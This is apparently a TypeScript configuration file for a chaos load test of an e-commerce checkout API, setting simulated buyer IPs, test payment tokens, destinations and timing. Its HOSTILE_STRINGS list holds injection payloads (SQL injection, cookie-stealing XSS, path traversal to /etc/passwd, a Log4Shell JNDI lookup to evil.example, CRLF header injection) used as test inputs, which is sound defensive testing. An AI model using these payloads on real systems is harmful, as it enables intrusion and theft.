/**
 * The shape of the load, in one place, with the reasons for each number.
 */

/** Load phase length: CHAOS_HTTP_SECONDS, default 75 s (npm test stays well under 10 minutes). */
export function loadSeconds(env: NodeJS.ProcessEnv = process.env): number {
  const given = Number(env.CHAOS_HTTP_SECONDS ?? 75);
  if (!Number.isFinite(given) || given <= 0)
    throw new Error(`CHAOS_HTTP_SECONDS must be a positive number, got ${env.CHAOS_HTTP_SECONDS}`);
  return given;
}

/**
 * After the load phase, flows already under way may keep retrying (a lost payment answer is
 * learned by re-sending after `Retry-After: 5`) for this long; then the clients stop asking.
 */
export const DRAIN_MS = 40_000;

/**
 * Rate limits are per IP (DEFAULT_POLICIES in src/modules/rate-limits/rate-limits.policy.ts). The
 * buyers share a few addresses (two or three each, as shoppers behind one NAT do), which keeps each
 * address near or under the `api` policy's refill rate on a 2-core machine: some 429s may appear,
 * most answers are real work. The staff actors share one address; the hostile actor rotates two,
 * since its malformed logins spend the small `auth` budget.
 */
export const BUYER_IPS = [
  "10.61.0.1",
  "10.61.0.1",
  "10.61.0.1",
  "10.61.0.2",
  "10.61.0.2",
  "10.61.0.2",
  "10.61.0.3",
  "10.61.0.3",
  "10.61.0.4",
  "10.61.0.4",
];
export const STAFF_IP = "10.61.1.1";
export const HOSTILE_IPS = ["10.61.2.1", "10.61.2.2"];
/** The payment provider's webhook deliveries come from their own address, as a provider's do. */
export const PROVIDER_IP = "10.61.3.1";
/** Every other buyer has an account (they can cancel their own orders); the rest check out as guests. */
export const registered = (buyer: number) => buyer % 2 === 0;
export const RACERS = 2;

/**
 * Every test payment method of docs/payments.md. Most buyers pay with cards that work, so the run
 * sells; the unknown-outcome tokens (timeout, providerError, and lostResponse's first answer)
 * stay rare enough that a run of unknown outcomes long enough to open the payment breaker is the
 * exception, not the rule (the breaker's cool-down is also shortened, see global-setup.ts).
 * `pm_card_unknownBrand` stands for a token the provider does not know (402 invalid_payment_method).
 */
export const PAYMENT_METHODS: readonly (readonly [string, number])[] = [
  ["pm_card_visa", 30],
  ["pm_card_mastercard", 4],
  ["pm_card_refundFails", 16],
  ["pm_card_lostResponse", 12],
  ["pm_card_chargeDeclined", 9],
  ["pm_card_insufficientFunds", 9],
  ["pm_card_timeout", 6],
  ["pm_card_providerError", 6],
  ["pm_card_unknownBrand", 2],
];

/**
 * How a buyer names the total it agrees to pay (docs/checkout.md, "the buyer's consent"): the
 * cart's ETag as If-Match, the total as `expectedTotal`, both — and a few v1 clients that name
 * nothing, which checkout still serves (charged whatever the cart costs when it is priced).
 */
export const CONSENT_MODES: readonly (readonly ["if-match" | "expected-total" | "both" | "none", number])[] = [
  ["if-match", 4],
  ["expected-total", 4],
  ["both", 1],
  ["none", 1],
];

/**
 * A fresh discount code with one use, every so often, that buyers race for: several carts hold it
 * when the first order redeems it, so the others' totals change under the buyers' eyes.
 */
export const ONE_USE_CODE_EVERY_MS = 8_000;

/** Payment methods whose charge never happens: their 503 is "unknown" for good (the client gives up after a retry or two). */
export const NEVER_ANSWERS = new Set(["pm_card_timeout", "pm_card_providerError"]);

export interface Destination {
  country: string;
  currency?: "EUR" | "USD";
  address: Record<string, string>;
}

/**
 * Where buyers ship: VAT-inclusive EU countries, US states with sales tax added on top, and Japan,
 * which has no tax rule (checkout refuses it with 422) until the merchant actor adds one.
 */
export const DESTINATIONS: readonly (readonly [Destination, number])[] = [
  [
    {
      country: "ES",
      address: {
        country: "ES",
        postalCode: "28001",
        city: "Madrid",
        line1: "Calle Mayor 1",
        name: "Ana García",
        phone: "+34 912 345 678",
      },
    },
    4,
  ],
  [{ country: "DE", address: { country: "DE", postalCode: "10115", city: "Berlin", line1: "Invalidenstraße 1" } }, 2],
  [{ country: "FR", address: { country: "FR", postalCode: "75001", city: "Paris", line1: "1 Rue de Rivoli" } }, 2],
  [{ country: "PT", address: { country: "PT", postalCode: "1100-148", city: "Lisboa", line1: "Rua Augusta 1" } }, 1],
  [
    {
      country: "US",
      currency: "USD",
      address: { country: "US", region: "CA", postalCode: "94103", city: "San Francisco", line1: "1 Market St" },
    },
    2,
  ],
  [
    {
      country: "US",
      currency: "USD",
      address: { country: "US", region: "NY", postalCode: "10001", city: "New York", line1: "350 5th Ave" },
    },
    1,
  ],
  [{ country: "JP", address: { country: "JP", postalCode: "100-0001", city: "Tokyo", line1: "1-1 Chiyoda" } }, 0.5],
];

/** How many SKUs the run trades in: a few scarce ones (3 on hand in the seed: out-of-stock races) and common ones. */
export const SCARCE_SKUS = 2;
export const COMMON_SKUS = 6;

/** Strings that have broken other systems; valid where their length allows, so some are stored and echoed. */
export const HOSTILE_STRINGS = [
  "Robert'); DROP TABLE orders;--",
  "<script>alert(document.cookie)</script>",
  '" OR "1"="1',
  "💥🛒 ñandú ǅ ﷽",
  "\u202egnp.exe",
  "../../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "%00%0d%0aSet-Cookie: x=1",
  "\u0000nul",
];

/** A hostile string fit for a field that should be accepted: NUL removed, never empty. */
export const storable = (text: string, max = 100) => text.replaceAll("\u0000", "").slice(0, max) || "x";
